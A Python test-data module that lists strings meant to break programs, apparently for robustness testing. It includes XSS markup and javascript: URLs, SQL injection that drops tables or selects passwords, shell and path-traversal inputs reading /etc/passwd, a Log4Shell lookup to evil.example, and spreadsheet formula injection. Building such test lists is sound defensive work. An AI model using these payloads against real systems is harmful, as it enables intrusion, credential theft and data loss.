"""Our own list of strings that break programs, by what they break (plan row B1). Longer lists: see test_strings.py."""

import json
import os
from pathlib import Path

_TAGS = ["script", "img", "svg", "iframe", "body", "math", "style", "object", "a", "video", "details", "input"]
_HANDLERS = ["onload", "onerror", "onfocus", "ontoggle", "onmouseover", "onanimationstart"]
_BREAKS = [
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</style>",
    "-->",
    "]]>",
    "</script>",
    '" ',
    "' ",
    "`",
    "{{",
    "{%",
]

MARKUP = [
    f"{out}<{tag} {do}=alert(1) src=x>" for out in _BREAKS[:9] for tag, do in zip(_TAGS, _HANDLERS * 2, strict=True)
]
ATTRIBUTES = [f"{out}{do}=alert(1) autofocus x=" for out in ('" ', "' ", "` ", "\t", "/") for do in _HANDLERS]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "[x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<https://evil.example/?[@SP]>",
    "[x]: javascript:alert(1)\n[x]",
    "//evil.example",
    "https://evil.example@127.0.0.1/",
]
TEMPLATES = [
    "{{7*7}}",
    "{% debug %}",
    "{{request.user}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "%(x)s",
    "{0.__class__}",
    "%n%s%p",
]
DATABASES = [
    "' OR 1=1 --",
    "1; DROP TABLE conditions_condition",
    '" AND "a"="a',
    "') UNION SELECT password FROM auth_user --",
    "%' AND 1=0 --",
    "* OR *",
    "milia NOT (",
    'NEAR("a" "b", 5)',
    "col:term",
    "a^b~2",
    "LIKE '%_%'",
    "\\",
    "\\'",
    "%",
    "_",
]
SYSTEMS = [
    "; cat /etc/passwd",
    "`id`",
    "$(id)",
    "| ls",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd%00.png",
    "file:///etc/passwd",
    "CON",
    "aux.txt",
    "${jndi:ldap://evil.example/a}",
    "(){ :;}; echo x",
]
LINES = [
    "a\r\nSet-Cookie: a=b",
    "a\nLocation: https://evil.example",
    "\x1b[31mred\x1b[0m",
    "a\x0bb\x0cc",
    "a\u2028b\u2029c",
    "a\x85b",
]
NUMBERS = [
    "0",
    "-1",
    "1e309",
    "NaN",
    "Infinity",
    "99999999999999999999",
    "0x10",
    "1_000",
    "٣",
    "²",
    "1.",
    "00",
    "-0",
    "9" * 400,
    "null",
    "None",
    "undefined",
    "true",
    "[]",
    "{}",
]
LETTERS = [
    "",
    " ",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\x00",
    "a\x00b",
    "\x7f",
    "\ud800",
    "\udfff\ud800",
    "\ufffe",
    "\uffff",
    "\U0010ffff",
    "\u202eafter",
    "\u2066x\u2069",
    "a" + "\u0301" * 400,
    "Z\u0351\u036b\u0343" * 60,
    "ﷺ" * 50,
    "ﬁ",
    "İıſK",
    "ß" * 100,
    "👩‍👩‍👧‍👦" * 30,
    "🏳️‍🌈",
    "中文字" * 40,
    "مرحبا",
    "שלום",
    "नमस्ते",
    "ก็็็็็็็็็็",
    "a" * 5000,
    "a " * 3000,
    "-" * 2000,
    "\t" * 500,
    "'" * 500,
    '"' * 500,
    "<" * 500,
    "&" * 500,
    "(" * 1000,
    "[" * 1000,
    "*" * 1000,
    "`" * 1000,
    "#" * 300,
    ">" * 300 + "x",
    "- " * 300,
    "e\u0301" * 300,
]
FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "=cmd|'/c calc'!A0", '=HYPERLINK("https://evil.example")']

OWN = list(
    dict.fromkeys(
        [*MARKUP, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *DATABASES, *SYSTEMS, *LINES, *NUMBERS, *LETTERS, *FORMULAS]
    )
)


def longer() -> list[str]:
    """The lists that HOSTILE_STRINGS names, each a JSON list in a file, with “:” between them; and our own."""
    files = filter(None, os.environ.get("HOSTILE_STRINGS", "").split(":"))
    return list(dict.fromkeys([*OWN, *(one for file in files for one in json.loads(Path(file).read_text()))]))
